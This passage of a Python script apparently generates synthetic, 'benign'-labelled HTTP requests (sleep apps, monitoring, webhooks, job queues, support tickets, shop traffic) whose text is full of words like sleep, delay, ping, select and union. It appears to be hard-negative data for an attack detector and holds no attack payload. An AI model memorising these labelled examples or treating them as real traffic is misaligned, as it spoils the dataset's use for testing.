        "%s,%02d:%02d,%02d:%02d,%.1f,%d" % (day(5, d), RNG.choice([22, 23]), RNG.randint(0, 59), RNG.choice([6, 7]),
                                           RNG.randint(0, 59), RNG.uniform(5.5, 9), RNG.randint(1, 5)) for d in range(1, 15)) + "\n"
    b_multi("sleep-import-csv", "www." + h, "/import/", [("source", "sleepcycle"), ("file", csv, "sleep-export.csv", "text/csv")])
    b_get("sleep-sounds", "www." + h, "/sounds", [("category", "rain"), ("sleep_timer", "45m"), ("fade_out", "true")])
    b_json("sleep-alarm", "api." + h, "/v2/alarms/" + str(RNG.randint(100, 999)), {
        "time": "06:45", "days": ["mon", "tue", "wed", "thu", "fri"], "smart_wake": True, "window_minutes": 20,
        "snooze": {"enabled": True, "delay_minutes": 9, "max": 3}, "label": "Wake up (sleep 7h30 min.)"}, method="PATCH")


def benign_fitness():
    h = "fit.example.net"
    workouts = ["Push day: bench 5x5, rest 3 min between sets", "Easy run 8 km, HR zone 2, waited at traffic lights twice",
                "Yoga 30 min + 10 min meditation before sleep", "Intervals: 6x400m, 90s recovery jog",
                "Leg day - squats 4x8 @ 100kg, rest 120s", "Natation 2 km, pause de 30 s tous les 200 m",
                "Krafttraining Oberkörper, Satzpause 90 Sekunden", "Caminata 10.000 pasos con el perro",
                "Cycling commute 2 x 14 km, headwind", "HIIT: 20s on / 10s off x 8 (Tabata)"]
    for i in range(10):
        b_json("fitness-workout", "api." + h, "/v1/workouts", {
            "type": RNG.choice(["run", "strength", "yoga", "ride", "swim", "walk"]), "started_at": ts(),
            "duration_s": RNG.randint(900, 5400), "avg_hr": RNG.randint(95, 165), "kcal": RNG.randint(120, 900),
            "notes": RNG.choice(workouts), "rest_timer_s": RNG.choice([60, 90, 120, 180]),
            "gps": {"polyline": b64url(bytes(RNG.getrandbits(8) for _ in range(30))), "distance_m": RNG.randint(0, 20000)}})
    for i in range(5):
        b_get("fitness-leaderboard", "www." + h, "/challenges/%d/leaderboard" % RNG.randint(10, 99),
              [("period", RNG.choice(["week", "month"])), ("page", str(RNG.randint(1, 5))), ("sort", "-steps")])
    for i in range(5):
        b_json("fitness-hr-samples", "api." + h, "/v1/heartrate/batch", {
            "device": RNG.choice(["Forerunner 265", "Apple Watch S9", "Pixel Watch 2", "Polar H10"]),
            "samples": [{"t": 1714000000 + k * 5, "bpm": RNG.randint(55, 170)} for k in range(RNG.randint(5, 12))],
            "resting_hr": RNG.randint(48, 70), "hrv_ms": RNG.randint(20, 90)})
    for i in range(4):
        b_form("fitness-profile", "www." + h, "/account/profile", [
            ("display_name", RNG.choice(["Anna K.", "Jürgen", "Léa Martin", "田中", "Priya S.", "Mateo"])),
            ("weight_kg", str(RNG.randint(50, 100))), ("sleep_target", RNG.choice(["7h", "7.5h", "8h"])),
            ("units", RNG.choice(["metric", "imperial"])), ("bio", RNG.choice(["Marathon 2025, sleep > everything", "Runner, coffee addict, early bird", "Trying to sleep before 23:00"]))])


def benign_scheduling():
    h = "app.example.org"
    for i in range(8):
        b_json("settings-retry-policy", "api." + h, "/v1/settings/delivery", {
            "retry": {"max_attempts": RNG.randint(3, 10), "backoff": RNG.choice(["exponential", "linear", "fixed"]),
                      "initial_delay_ms": RNG.choice([200, 500, 1000]), "max_delay_ms": RNG.choice([30000, 60000, 300000]),
                      "jitter": RNG.choice([True, False])},
            "timeout_seconds": RNG.choice([5, 10, 30]), "respect_retry_after": True,
            "wait_before_first_attempt": RNG.choice(["0s", "5s", "1m"])}, method="PUT")
    for i in range(6):
        b_form("settings-notification-delay", "www." + h, "/settings/notifications", [
            ("digest_delay", RNG.choice(["15", "30", "60"])), ("quiet_hours_start", "22:00"), ("quiet_hours_end", "07:00"),
            ("sleep_mode", RNG.choice(["on", "off"])), ("wait_for_read_receipt", RNG.choice(["1", "0"])),
            ("timezone", RNG.choice(["Europe/Berlin", "America/Chicago", "Asia/Kolkata"]))])
    events = ["Weekly sync (wait for Bob)", "Dentist - delay 15 min possible", "Sleep study follow-up",
              "Standup – 10 min", "Réunion budget 2025", "Entrega del proyecto", "Benchmark review with perf team",
              "Cron migration: pause jobs 02:00-02:30 UTC"]
    for i in range(8):
        b_json("calendar-event", "calendar.example.com", "/api/events", {
            "title": RNG.choice(events), "start": ts(), "duration": RNG.choice(["PT30M", "PT1H", "PT15M"]),
            "reminders": [{"method": "popup", "minutes_before": RNG.choice([5, 10, 30])}],
            "recurrence": RNG.choice([None, "RRULE:FREQ=WEEKLY;BYDAY=MO,WE", "RRULE:FREQ=DAILY;COUNT=5"]),
            "attendees": ["%s@example.com" % RNG.choice(["ana", "bob", "chen", "dmitri", "eva"])]})
    for i in range(4):
        b_get("rate-limit-status", "api." + h, "/v1/rate_limit", None, headers=api_auth() + [["If-None-Match", 'W/"%s"' % rstr(16, HEX)]], profile="api")
    b_json("maintenance-window", "api." + h, "/v1/maintenance", {"starts_at": ts(), "delay_deploys": True,
           "message": "Scheduled maintenance: expect delays of up to 5 minutes. Please wait and retry.",
           "retry_after_seconds": 300}, method="POST")
    b_json("sms-throttle", "api." + h, "/v1/settings/sms", {"send_delay_ms": 1200, "sleep_between_batches_s": 2,
           "batch_size": 50, "timeout": "30s"}, method="PATCH")


MON_HOSTS = ["www.example.com", "api.example.net", "mail.example.org", "db1.internal.example.com", "vpn.example.net",
             "cdn.example.org", "192.0.2.10", "198.51.100.23", "203.0.113.7", "2001:db8::1", "status.example.com"]


def benign_netmon():
    h = "monitor.example.com"
    for i in range(10):
        t = RNG.choice(["ping", "http", "dns", "tcp", "tls"])
        tgt = RNG.choice(MON_HOSTS)
        obj = {"name": "%s %s" % (t.upper(), tgt), "type": t, "target": tgt, "interval_seconds": RNG.choice([30, 60, 300]),
               "timeout_ms": RNG.choice([1000, 2000, 5000]), "retries": RNG.randint(0, 3),
               "regions": RNG.sample(["eu-west", "us-east", "ap-south", "sa-east"], 2)}
        if t == "ping":
            obj["packet_count"] = RNG.choice([3, 4, 5])
        if t == "dns":
            obj.update({"record_type": RNG.choice(["A", "AAAA", "MX", "TXT", "CNAME"]), "resolver": RNG.choice(["1.1.1.1", "8.8.8.8", "9.9.9.9"]),
                        "expected": RNG.choice(["192.0.2.10", "mx1.example.org", "v=spf1 include:_spf.example.com ~all"])})
        if t == "http":
            obj.update({"url": "https://%s/health" % tgt, "method": "GET", "expect_status": 200, "follow_redirects": True})
        b_json("monitor-create", "api." + h, "/v1/monitors", obj)
    for i in range(8):
        b_get("tool-ping", h, "/tools/ping", [("host", RNG.choice(MON_HOSTS)), ("count", str(RNG.choice([4, 5, 10]))),
                                              ("timeout", RNG.choice(["1", "2"]))], headers=xhr(h, "/tools"))
    for i in range(6):
        b_get("tool-dns-lookup", h, "/tools/dns", [("name", RNG.choice(["example.com", "mail.example.org", "_dmarc.example.net", "www.example.com"])),
                                                   ("type", RNG.choice(["A", "MX", "TXT", "NS", "SOA", "CAA"])), ("server", RNG.choice(["1.1.1.1", "8.8.4.4", "auto"]))],
              headers=xhr(h, "/tools"))
    for i in range(5):
        hops = []
        for k in range(1, RNG.randint(6, 12)):
            hops.append({"hop": k, "host": RNG.choice(["gw.example.net", "core1.example.com", "*", "198.51.100.%d" % RNG.randint(1, 254),
                                                       "203.0.113.%d" % RNG.randint(1, 254)]),
                         "rtt_ms": [round(RNG.uniform(0.3, 80), 2) for _ in range(3)]})
        b_json("traceroute-result", "api." + h, "/v1/agents/%s/results" % rstr(8), {
            "check": "traceroute", "target": RNG.choice(MON_HOSTS), "max_hops": 30, "hops": hops, "completed_at": ts()},
            headers=[["Authorization", "Token " + rstr(40, HEX)]])
    for i in range(6):
        b_json("uptime-probe-report", "api." + h, "/v1/ingest", {
            "probe": "probe-%s-%d" % (RNG.choice(["fra", "iad", "sin", "gru"]), RNG.randint(1, 9)),
            "results": [{"monitor_id": RNG.randint(1000, 9999), "ok": RNG.random() > 0.2, "latency_ms": RNG.randint(8, 900),
                         "error": RNG.choice([None, "timeout after 5000ms", "connection refused", "DNS NXDOMAIN", "TLS handshake timeout"])}
                        for _ in range(3)]},
            headers=[["Authorization", "Token " + rstr(40, HEX)], ["Content-Encoding", "identity"]])
    notes = ["Packet loss 12% from ap-south since 14:05 UTC, upstream ISP ticket opened. ping -c 100 shows spikes.",
             "DNS lookup for mail.example.org times out on resolver 8.8.8.8 only; nslookup via 1.1.1.1 is fine.",
             "Latency back to normal after failover. Waited 10 minutes before closing incident.",
             "Certificate expires in 7 days, renewal job scheduled (sleep window 02:00).",
             "Le serveur ne répond plus au ping depuis 3h du matin, délai d'attente dépassé.",
             "Timeout bei der DNS-Auflösung, Traceroute endet bei Hop 7."]
    for i in range(5):
        b_form("incident-note", h, "/incidents/%d/notes" % RNG.randint(100, 999),
               [("body", RNG.choice(notes)), ("visibility", RNG.choice(["internal", "public"])), ("notify", "on")])
    b_get("status-page", "status.example.com", "/history", [("page", "2"), ("component", "api")])
    b_get("monitor-list", h, "/monitors", [("q", "ping"), ("status", "down"), ("sort", "last_check")])



def saas_hook_url():
    return RNG.choice([
        "https://hooks.slack.com/services/T%s/B%s/%s" % (rstr(8).upper(), rstr(10).upper(), rstr(24, ALNUM + "ABCDEFGHIJKLMNOPQRSTUVWXYZ")),
        "https://discord.com/api/webhooks/%d/%s" % (RNG.randint(10**17, 10**18), rstr(68, ALNUM + "-_ABCDEFGHIJKLMNOPQRSTUVWXYZ")),
        "https://example.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s" % (ruuid(), ruuid(), rstr(32, HEX), ruuid()),
        "https://hooks.zapier.com/hooks/catch/%d/%s/" % (RNG.randint(10**6, 10**7), rstr(6)),
        "https://events.pagerduty.com/v2/enqueue",
        "https://api.opsgenie.com/v2/alerts",
        "https://hook.eu1.make.com/%s" % rstr(32),
        "https://ci.example.com/generic-webhook-trigger/invoke?token=%s" % rstr(20),
        "https://api.example.net/integrations/stripe/webhook",
        "https://n8n.example.org/webhook/%s" % ruuid(),
    ])


def benign_webhooks():
    h = "dashboard.example.net"
    evs = ["order.created", "order.paid", "invoice.overdue", "monitor.down", "monitor.up", "job.failed", "user.signup", "deploy.finished"]
    for i in range(10):
        b_json("webhook-create", "api." + h, "/v1/webhooks", {
            "url": saas_hook_url(), "events": RNG.sample(evs, RNG.randint(1, 4)), "active": True,
            "secret": "whsec_" + rstr(32), "content_type": "application/json",
            "retry_policy": {"max_retries": RNG.choice([3, 5, 8]), "backoff_seconds": [10, 60, 300, 1800]},
            "description": RNG.choice(["Notify #ops channel", "Zapier -> Google Sheets", "PagerDuty for on-call",
                                       "Alertes équipe infra", "Benachrichtigung Vertrieb", "Callback to our ERP"])})
    for i in range(6):
        b_form("webhook-edit-form", h, "/settings/integrations/%d" % RNG.randint(1, 60), [
            ("callback_url", saas_hook_url()), ("timeout_s", RNG.choice(["5", "10", "15"])),
            ("delay_between_retries", RNG.choice(["30s", "2m", "5m"])), ("verify_ssl", "1"),
            ("authenticity_token", b64(rstr(48)))])
    for i in range(5):
        b_json("webhook-test-delivery", "api." + h, "/v1/webhooks/%s/test" % rstr(12), {"event": RNG.choice(evs), "dry_run": RNG.choice([True, False])})
    for i in range(4):
        b_get("webhook-deliveries", "api." + h, "/v1/webhooks/%s/deliveries" % rstr(12),
              [("status", RNG.choice(["failed", "retrying", "succeeded"])), ("since", ts()), ("limit", "50")], headers=api_auth(), profile="api")
    # inbound deliveries from SaaS providers to our endpoints
    for i in range(4):
        payload = {"id": "evt_" + rstr(24, ALNUM + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), "object": "event", "type": RNG.choice(["invoice.paid", "charge.refunded", "customer.subscription.updated"]),
                   "created": 1714000000 + RNG.randint(0, 10**6), "livemode": False,
                   "data": {"object": {"id": "in_" + rstr(24), "amount_paid": RNG.randint(500, 99000), "currency": RNG.choice(["eur", "usd", "gbp"])}},
                   "request": {"id": "req_" + rstr(14), "idempotency_key": ruuid()}}
        emit(B, "webhook-inbound-stripe", "benign", "POST", "/integrations/stripe/webhook", "api.example.net",
             [["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Stripe-Signature", "t=%d,v1=%s" % (1714000000 + i, rstr(64, HEX))]],
             jdump(payload), "application/json; charset=utf-8", profile="api")
    for i in range(3):
        emit(B, "webhook-inbound-github", "benign", "POST", "/hooks/github", "ci.example.com",
             [["User-Agent", "GitHub-Hookshot/%s" % rstr(7, HEX)], ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", ruuid()],
              ["X-Hub-Signature-256", "sha256=" + rstr(64, HEX)]],
             jdump({"ref": "refs/heads/main", "before": rstr(40, HEX), "after": rstr(40, HEX),
                    "repository": {"full_name": "example-org/palisade-dashboards", "html_url": "https://github.com/example-org/palisade-dashboards"},
                    "head_commit": {"message": RNG.choice(["Increase healthcheck timeout to 30s", "Add retry with backoff and sleep between polls", "Fix benchmark flakiness (wait for warmup)"]),
                                    "timestamp": ts()}}),
             "application/json", profile="api")


def benign_benchmarks():
    h = "perf.example.com"
    suites = ["tpc-h", "tpc-c", "pgbench", "sysbench-oltp_read_write", "ycsb-a", "wrk-http", "SPEC CPU 2017", "MLPerf inference", "geekbench6", "fio-randread-4k"]
    for i in range(8):
        b_get("bench-dashboard", h, "/d/benchmarks", [("suite", RNG.choice(suites)), ("metric", RNG.choice(["p99_latency_ms", "tps", "qps", "throughput_mb_s"])),
                                                      ("from", "now-%dd" % RNG.choice([7, 30, 90])), ("to", "now"), ("var-host", RNG.choice(["db1", "db2", "all"])),
                                                      ("refresh", RNG.choice(["30s", "1m", "5m"]))])
    for i in range(8):
        b_json("bench-result-upload", "api." + h, "/v1/runs", {
            "benchmark": RNG.choice(suites), "commit": rstr(40, HEX), "branch": RNG.choice(["main", "perf/sleep-less-polling", "feat/async-io"]),
            "machine": {"cpu": RNG.choice(["AMD EPYC 9654", "Intel Xeon Gold 6430", "Apple M3 Pro", "Graviton3"]), "cores": RNG.choice([8, 16, 64, 96]), "ram_gb": RNG.choice([32, 64, 256])},
            "params": {"threads": RNG.choice([1, 8, 32, 64]), "duration_s": RNG.choice([60, 300, 600]), "warmup_s": 30, "think_time_ms": RNG.choice([0, 50, 100])},
            "results": {"tps": round(RNG.uniform(500, 90000), 1), "p50_ms": round(RNG.uniform(0.2, 5), 3), "p99_ms": round(RNG.uniform(2, 90), 3), "errors": RNG.randint(0, 3)}},
            headers=[["Authorization", "Token " + rstr(40, HEX)], ["X-CI-Job", str(RNG.randint(10**6, 10**7))]])
    for i in range(5):
        b_get("bench-compare", h, "/compare", [("base", rstr(7, HEX)), ("head", rstr(7, HEX)), ("suite", RNG.choice(suites)), ("threshold", "5%")])
    comments = ["Regression in select-heavy queries after the planner change; benchmark shows +18% p99.",
                "The sleep(1) in the poller dominates the wall time, the actual work is 40 ms.",
                "Benchmark mit 64 Threads: Durchsatz stagniert ab 32, vermutlich Lock-Contention.",
                "Le benchmark CPU est stable, mais les E/S aléatoires ont un délai plus élevé.",
                "After raising the timeout to 30s the load test no longer reports errors.",
                "ベンチマークの結果、レイテンシが改善しました。"]
    for i in range(5):
        b_form("bench-comment", h, "/runs/%d/comments" % RNG.randint(1000, 9999), [("comment", RNG.choice(comments)), ("mention", "@perf-team")])


def benign_jobs():
    h = "jobs.example.org"
    names = ["nightly-report", "cleanup-tmp", "sync-crm", "reindex-search", "send-digest", "rotate-logs", "db-vacuum", "warm-cache", "billing-run", "export-s3"]
    for i in range(10):
        b_json("job-schedule", "api." + h, "/v1/jobs", {
            "name": RNG.choice(names) + "-" + rstr(4), "cron": RNG.choice(["0 3 * * *", "*/15 * * * *", "30 2 * * 1-5", "@hourly", "0 0 1 * *"]),
            "timezone": RNG.choice(["UTC", "Europe/Amsterdam", "America/Los_Angeles"]), "queue": RNG.choice(["default", "low", "critical", "mailers"]),
            "sleep_between_batches": RNG.choice(["500ms", "2s", "10s"]), "batch_size": RNG.choice([100, 500, 1000]),
            "max_runtime": RNG.choice(["15m", "1h", "6h"]), "retry": {"attempts": RNG.randint(1, 5), "delay": RNG.choice(["30s", "5m"]), "backoff": 2.0},
            "args": {"target": RNG.choice(["s3://reports-example/daily/", "postgres://replica.example.net/app", "https://crm.example.com/api"])}})
    for i in range(6):
        b_get("queue-admin", "admin." + h, "/sidekiq/" + RNG.choice(["retries", "scheduled", "dead", "queues/default"]),
              [("page", str(RNG.randint(1, 4))), ("substr", RNG.choice(["", "Timeout", "ReportJob", "sleep"]))])
    for i in range(5):
        b_form("job-action", "admin." + h, "/sidekiq/retries", [("key[]", "%d.%d-%s" % (1714000000 + RNG.randint(0, 999999), RNG.randint(0, 999999), rstr(24, HEX))),
                                                                ("retry", "Retry Now"), ("authenticity_token", b64(rstr(48)))])
    for i in range(5):
        b_json("celery-task", "api." + h, "/v1/tasks", {
            "task": RNG.choice(["reports.generate_pdf", "mail.send_bulk", "etl.load_partition"]), "args": [RNG.randint(1, 9999)],
            "kwargs": {"countdown": RNG.choice([0, 10, 60]), "eta": ts(), "expires": 3600, "soft_time_limit": 300},
            "options": {"retry": True, "retry_policy": {"max_retries": 3, "interval_start": 0, "interval_step": 0.2, "interval_max": 0.5}}})
    for i in range(4):
        b_json("job-log-append", "api." + h, "/v1/runs/%s/log" % ruuid(), {"lines": [
            "%s INFO batch %d done, sleeping 2s" % (ts(), RNG.randint(1, 90)),
            "%s WARN upstream returned 429, Retry-After: 30, waiting" % ts(),
            "%s INFO resumed after delay, %d rows left" % (ts(), RNG.randint(0, 50000))]},
            headers=[["Authorization", "Token " + rstr(40, HEX)]])


TICKETS = [
    ("Page keeps loading forever", "When I click 'Export' the spinner runs for minutes and then I get 504 Gateway Timeout. Tried Chrome and Firefox."),
    ("Login delay", "It takes about 30 seconds after I press Sign in before anything happens. Is there a sleep or wait somewhere?"),
    ("Webhook not firing", "Our Slack webhook stopped receiving events yesterday around 17:00 CET. Deliveries show 'retrying'."),
    ("Wrong sleep score", "My sleep duration says 3h but I slept from 23:00 to 07:00. The watch was charging between 2 and 3 though."),
    ("Error message", "I get: \"Request failed with status code 500\" and then \"Please wait and try again later\"."),
    ("Facture en double", "Bonjour, j'ai reçu deux factures pour le mois de mai. Pouvez-vous vérifier ? Merci d'avance."),
    ("Zeitüberschreitung beim Upload", "Beim Hochladen einer 40 MB Datei bricht der Vorgang nach 60 Sekunden ab (Timeout)."),
    ("No puedo cambiar mi contraseña", "El enlace del correo dice 'token expirado' aunque lo abrí enseguida."),
    ("Lentidão no painel", "O painel demora mais de 20 segundos para carregar os gráficos de benchmark."),
    ("ログインできません", "パスワードをリセットしましたが、ログインできません。エラーコード: AUTH-401"),
    ("Ping monitor false alarm", "Our ping check to 203.0.113.7 alerts every night at 3am although the server is up. Maybe the ICMP rate limit?"),
    ("DNS check fails", "The DNS monitor for example.org MX says NXDOMAIN, but dig @1.1.1.1 example.org MX returns mx1.example.org."),
    ("Cancel subscription", "Please cancel my plan at the end of the billing period. Order #A-20931."),
    ("API returns 429", "We call /v1/orders every second and get 429 with Retry-After: 10. What is the recommended backoff?"),
    ("Проблема с синхронизацией", "Данные о сне не синхронизируются с часами уже два дня."),
]


def benign_support():
    h = "support.example.com"
    for i in range(12):
        subj, body = RNG.choice(TICKETS)
        b_form("support-ticket-form", h, "/tickets/new", [
            ("ticket[subject]", subj), ("ticket[description]", body), ("ticket[priority]", RNG.choice(["low", "normal", "high"])),
            ("ticket[category]", RNG.choice(["billing", "technical", "account", "other"])),
            ("ticket[browser]", RNG.choice(UA_BROWSER)), ("authenticity_token", b64(rstr(48)))])
    for i in range(8):
        subj, body = RNG.choice(TICKETS)
        b_json("support-ticket-api", "api." + h, "/api/v2/tickets", {"ticket": {
            "subject": subj, "comment": {"body": body}, "requester": {"name": RNG.choice(["Maria Rossi", "Kenji Sato", "Olu Adeyemi", "Zoë Dubois", "Sven Berg"]),
                                                                       "email": "%s@example.%s" % (rstr(6), RNG.choice(["com", "net", "org"]))},
            "tags": RNG.sample(["timeout", "webhook", "sleep-data", "billing", "dns", "mobile"], 2),
            "custom_fields": [{"id": 360001, "value": RNG.choice(["ios", "android", "web"])}, {"id": 360002, "value": "5.%d.0" % RNG.randint(0, 9)}]}})
    for i in range(5):
        log = "\n".join(["%s ERROR [worker-%d] Timeout waiting for connection from pool (30000 ms)" % (ts(), RNG.randint(1, 8)),
                         "%s WARN  retrying in %ds (attempt %d/5)" % (ts(), RNG.choice([2, 4, 8]), RNG.randint(1, 5)),
                         "%s INFO  GET /api/sleep/summary 200 %dms" % (ts(), RNG.randint(20, 900))])
        b_multi("support-attachment", h, "/tickets/%d/attachments" % RNG.randint(10000, 99999), [
            ("comment", RNG.choice(["Log attached.", "Voir le fichier joint.", "Siehe Logdatei im Anhang."])),
            ("file", log, "app-%s.log" % day(), "text/plain")])
    for i in range(4):
        b_get("support-search", h, "/hc/search", [("query", RNG.choice(["sleep tracking not syncing", "webhook retry delay", "how to change timeout",
                                                                          "délai de livraison", "ping monitor", "benchmark export csv", "cancel wait list"])),
                                                   ("locale", RNG.choice(["en-us", "fr", "de", "es"]))])


LAB = [
    "Benchmark dataset: 1,200 protein structures, RMSD computed against the reference fold.",
    "Searched the genome for the substring GATTACA; 14 exact hits on chr7, 3 with one mismatch.",
    "FASTA files must be plain ASCII; the lab printer outputs UTF-16 so convert before upload.",
    "Select samples where OD600 > 0.8 and incubate for another 2 h at 37 °C.",
    "Reaction delay of ~5 s observed after adding the catalyst (Pd/C, 10 mol%).",
    "Titration: wait 30 s between drops near the endpoint; phenolphthalein turns pink at pH 8.2.",
    "Union of both primer sets covers exons 2–9. Order by Tm, drop those < 55 °C.",
    "Sleep deprivation cohort (n=48): mean latency to sleep onset 4.2 min vs 11.8 min in controls.",
    "La cinétique montre un délai de latence de 12 min avant la croissance exponentielle.",
    "Die Probe wurde 10 min bei 4000 rpm zentrifugiert, danach 5 min warten.",
    "Benchmarked three aligners (BWA-MEM, Bowtie2, minimap2); minimap2 was 6x faster on long reads.",
    "Substring matching of k-mers (k=31) with a rolling hash; ASCII table used for base encoding A=65, C=67, G=71, T=84.",
    "Le pH a été ajusté à 7,4 avec NaOH 1 M ; échantillons sélectionnés où l'absorbance > 0,5.",
    "化合物Aの反応時間は30分、収率は82%でした。",
]


def benign_lab():
    h = "eln.example.org"
    for i in range(10):
        b_json("lab-notebook-entry", "api." + h, "/v1/entries", {
            "experiment": "EXP-%04d" % RNG.randint(1, 9999), "title": RNG.choice(["Kinetics run", "Sequencing QC", "Benchmark aligners", "Buffer prep", "Sleep study analysis"]),
            "body": " ".join(RNG.sample(LAB, 3)), "tags": RNG.sample(["chemistry", "biology", "benchmark", "ngs", "kinetics"], 2),
            "attachments": [{"name": "plate-%d.png" % RNG.randint(1, 96), "sha256": rstr(64, HEX)}], "signed": False})
    for i in range(5):
        b_get("lab-sequence-search", h, "/search/sequences", [("pattern", "".join(RNG.choice("ACGT") for _ in range(RNG.randint(8, 20)))),
                                                             ("mode", RNG.choice(["substring", "regex", "blast"])), ("organism", RNG.choice(["E. coli", "H. sapiens", "S. cerevisiae"])),
                                                             ("max_mismatch", str(RNG.randint(0, 2)))])
    for i in range(4):
        fasta = ">seq%d some protein [Homo sapiens]\n%s\n>seq%d\n%s\n" % (
            RNG.randint(1, 99), "".join(RNG.choice("ACDEFGHIKLMNPQRSTVWY") for _ in range(60)), RNG.randint(100, 199),
            "".join(RNG.choice("ACDEFGHIKLMNPQRSTVWY") for _ in range(60)))
        b_multi("lab-fasta-upload", h, "/tools/align", [("program", RNG.choice(["blastp", "clustalo"])), ("evalue", "1e-5"),
                                                         ("query", fasta, "query.fasta", "text/plain")])
    for i in range(4):
        b_form("lab-comment", h, "/entries/%d/comments" % RNG.randint(100, 999), [("text", RNG.choice(LAB))])



SEARCHES = ["sleep mask", "white noise machine", "O'Reilly SQL cookbook", "C++ concurrency in action", "rock & roll t-shirt",
            "50% off running shoes", "Dr. Who? box set", "ping pong table", "delay pedal guitar", "benchmark laptop 2024",
            "oreiller à mémoire de forme", "Schlafsack -10°C", "almohada cervical", "travesseiro de penas", "睡眠 アイマスク",
            "枕头 记忆棉", "подушка ортопедическая", "kaffee entkalker", "cable usb-c 2m", "wait staff uniform", "curl bar 20kg",
            "select comfort mattress", "union jack flag", "\"exact phrase\" search", "size:42 color:blue", "1/2\" drill bit"]
NAMES = ["Seán O'Brien", "Chloé D'Angelo", "José Álvarez", "Zoë Müller", "Ngozi Okafor", "Łukasz Wiśniewski", "Nguyễn Thị Lan",
         "Mary-Jane Smith", "Ahmed Al-Farsi", "山田 太郎", "Ольга Смирнова", "Sinéad Ní Bhriain", "Jean-Luc Picard"]


def benign_web():
    h = "shop.example.com"
    for i in range(10):
        b_get("shop-search", "www." + h, "/search", [("q", RNG.choice(SEARCHES)), ("page", str(RNG.randint(1, 4))),
                                                     ("sort", RNG.choice(["relevance", "price_asc", "-rating", "newest"]))])
    for i in range(5):
        b_get("shop-category", "www." + h, "/c/%s" % RNG.choice(["bedroom/pillows", "sport/running", "kitchen/coffee", "electronics/audio"]),
              [("filter[brand]", RNG.choice(["Acme", "Nordic Sleep", "Zeta"])), ("filter[price]", "20-80"), ("utm_source", RNG.choice(["newsletter", "google", "facebook"])),
               ("utm_campaign", RNG.choice(["spring_sale", "sleep-week", "bf2024"])), ("gclid", rstr(40, ALNUM + "ABCDEFGHIJKLMNOPQRSTUVWXYZ_-"))])
    for i in range(5):
        b_form("shop-add-to-cart", "www." + h, "/cart/add", [("product_id", str(RNG.randint(1000, 99999))), ("variant", RNG.choice(["S", "M", "L", "queen", "king"])),
                                                             ("qty", str(RNG.randint(1, 3))), ("_token", rstr(40))])
    for i in range(5):
        b_json("shop-checkout-address", "www." + h, "/api/checkout/address", {
            "name": RNG.choice(NAMES), "line1": RNG.choice(["12 Rue de la Paix", "Hauptstraße 5", "221B Baker Street", "Calle Mayor 3, 2º izq.", "1-2-3 Shibuya"]),
            "line2": RNG.choice(["", "Apt 4B", "c/o Example GmbH", "Building 7 (wait at reception)"]), "city": RNG.choice(["Paris", "Berlin", "London", "Madrid", "Tokyo"]),
            "postal_code": str(RNG.randint(10000, 99999)), "country": RNG.choice(["FR", "DE", "GB", "ES", "JP"]), "phone": "+33 6 %02d %02d %02d %02d" % tuple(RNG.randint(0, 99) for _ in range(4)),
            "delivery_notes": RNG.choice(["Please leave at the door, baby sleeping, do not ring!", "Ring twice and wait", "Livrer après 18h", "Bitte beim Nachbarn abgeben", ""])},
            headers=xhr("www." + h, "/checkout") + [["X-CSRF-Token", rstr(43)]])
    for i in range(5):
        b_form("login", "accounts.example.com", "/login", [("email", "%s@example.%s" % (rstr(7), RNG.choice(["com", "org", "net"]))),
                                                           ("password", RNG.choice(["correct horse battery staple", "S3cure!Pass#2024", "p@ss' word", "Zz9&kL--x"])),
                                                           ("remember_me", "on"), ("next", "/dashboard?tab=sleep")])
    for i in range(4):
        b_get("oauth-callback", "app.example.org", "/auth/callback", [("code", rstr(40, ALNUM + "ABCDEFGHIJKLMNOPQRSTUVWXYZ")), ("state", b64url(rstr(24))),
                                                                      ("scope", "openid email profile"), ("authuser", "0"), ("prompt", "consent")])
    for i in range(3):
        emit(B, "oauth-token", "benign", "POST", "/oauth2/token", "id.example.com",
             [["Authorization", "Basic " + b64("%s:%s" % (rstr(20), rstr(40)))]],
             form([("grant_type", "authorization_code"), ("code", rstr(43)), ("redirect_uri", "https://app.example.org/auth/callback"),
                   ("code_verifier", rstr(64, ALNUM + "-._~"))]), "application/x-www-form-urlencoded", profile="api")
    gql = ["query SleepStats($from: Date!, $to: Date!) { sleepStats(from: $from, to: $to) { avgDuration avgLatency efficiency } }",
           "query Monitors($first: Int, $after: String) { monitors(first: $first, after: $after) { edges { node { id name status lastPingMs } } pageInfo { endCursor hasNextPage } } }",
           "mutation UpdateWebhook($id: ID!, $input: WebhookInput!) { updateWebhook(id: $id, input: $input) { id url retryDelaySeconds } }",
           "query Search($q: String!) { search(query: $q, types: [PRODUCT, ARTICLE]) { __typename ... on Product { id title } ... on Article { id headline } } }"]
    for i in range(6):
        b_json("graphql-query", "api.example.net", "/graphql", {"query": RNG.choice(gql), "variables": {
            "from": day(), "to": day(), "first": 20, "after": b64("cursor:%d" % RNG.randint(1, 500)), "q": RNG.choice(SEARCHES),
            "id": ruuid(), "input": {"url": saas_hook_url(), "retryDelaySeconds": 60}}})
    for i in range(4):
        png = b64(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(RNG.getrandbits(8) for _ in range(90)))
        b_json("avatar-base64", "api.example.net", "/v1/me/avatar", {"filename": "me.png", "data": "data:image/png;base64," + png}, method="PUT")
    for i in range(4):
        b_multi("photo-upload", "media.example.com", "/upload", [("album", RNG.choice(["Holidays 2024", "Vacances", "Urlaub"])), ("caption", RNG.choice(["Sunset at the beach 🌅", "Café au lait", "Berg & Tal"])),
                                                                 ("file", "\xff\xd8\xff\xe0\x00\x10JFIF" + rstr(40), "IMG_%04d.jpg" % RNG.randint(1, 9999), "image/jpeg")])
    for i in range(4):
        b_form("blog-comment", "blog.example.net", "/wp-comments-post.php", [
            ("comment", RNG.choice(["Great article! I've been trying the 'no screens after 10pm' rule and my sleep improved.",
                                    "Merci pour cet article, très utile. J'attendais ça depuis longtemps.",
                                    "Does the delay setting also apply to SMS? We had to wait 5 min for the code.",
                                    "Ich nutze seit Jahren einen Ping-Monitor, funktioniert super.",
                                    "What's the benchmark for a \"good\" sleep efficiency? 85%?"])),
            ("author", RNG.choice(NAMES)), ("email", "%s@example.org" % rstr(6)), ("url", RNG.choice(["", "https://www.example.com/blog"])),
            ("comment_post_ID", str(RNG.randint(10, 999))), ("comment_parent", "0")])
    for i in range(4):
